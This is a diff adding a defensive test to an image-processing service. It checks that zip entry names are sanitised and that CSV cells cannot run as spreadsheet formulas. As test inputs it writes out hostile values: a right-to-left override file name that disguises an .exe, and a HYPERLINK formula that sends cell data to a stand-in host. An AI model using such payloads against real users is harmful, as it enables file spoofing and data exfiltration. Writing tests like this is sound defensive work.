@@ -268,6 +268,63 @@ describe('a batch', () => {
     );
   });
 
+  it('names zip entries safe to unzip and writes no CSV cell a spreadsheet runs (issue 53 items 5 and 9)', async () => {
+    const { client } = await verifiedUser(backend, 100);
+    const names = [
+      'a\r\n\tb.jpg', // line breaks and a tab inside
+      'photo\u202egnp.exe.jpg', // the right-to-left override that shows "photoexe.png"
+      'C:evil-name.jpg', // a drive prefix
+      '.hidden.jpg',
+      'caf\u00e9.jpg', // NFC, then NFD: one name on a Mac
+      'cafe\u0301.jpg',
+    ];
+    const cutouts = (await createBatch(client, 'background-remover', names.length)).body;
+    for (const [item, name] of names.entries()) {
+      expect((await sendImage(client, cutouts.id, { image: await image(), item, name })).status).toBe(202);
+    }
+    await untilEnded(client, cutouts.id);
+    const zip = unzipSync(
+      new Uint8Array(await (await client.fetchRaw(`/api/batches/${cutouts.id}/download`)).arrayBuffer()),
+    );
+    expect(Object.keys(zip).sort()).toEqual(
+      [
+        'ab-background-removed.webp',
+        'photognp.exe-background-removed.webp',
+        'Cevil-name-background-removed.webp',
+        'hidden-background-removed.webp',
+        'caf\u00e9-background-removed.webp',
+        'caf\u00e9-background-removed (2).webp',
+      ].sort(),
+    );
+
+    const formulas = [
+      '=HYPERLINK("http://x.example/?leak="&A1,"click").png',
+      '+1+2.png',
+      '-1+2.png',
+      '@SUM(A1).png',
+      '\t=1+2.png', // a spreadsheet trims the tab and reads the formula; the name is stored trimmed
+    ];
+    const analyses = (await createBatch(client, 'image-analyzer', formulas.length)).body;
+    for (const [item, name] of formulas.entries()) {
+      expect((await sendImage(client, analyses.id, { image: await image(), item, name })).status).toBe(202);
+    }
+    await untilEnded(client, analyses.id);
+    const csvZip = unzipSync(
+      new Uint8Array(await (await client.fetchRaw(`/api/batches/${analyses.id}/download`)).arrayBuffer()),
+    );
+    expect(Buffer.from(csvZip['keywords.csv'] as Uint8Array).toString()).toBe(
+      [
+        'Filename,Keywords,Colors',
+        `"'=HYPERLINK(""http://x.example/?leak=""&A1,""click"").png",test,`,
+        "'+1+2.png,test,",
+        "'-1+2.png,test,",
+        "'@SUM(A1).png,test,",
+        "'=1+2.png,test,",
+        '',
+      ].join('\r\n'),
+    );
+  });
+
   it('shows in My Creations as its images, and is deleted with them once none runs', async () => {
     const { client } = await verifiedUser(backend, 40);
     provider.close();
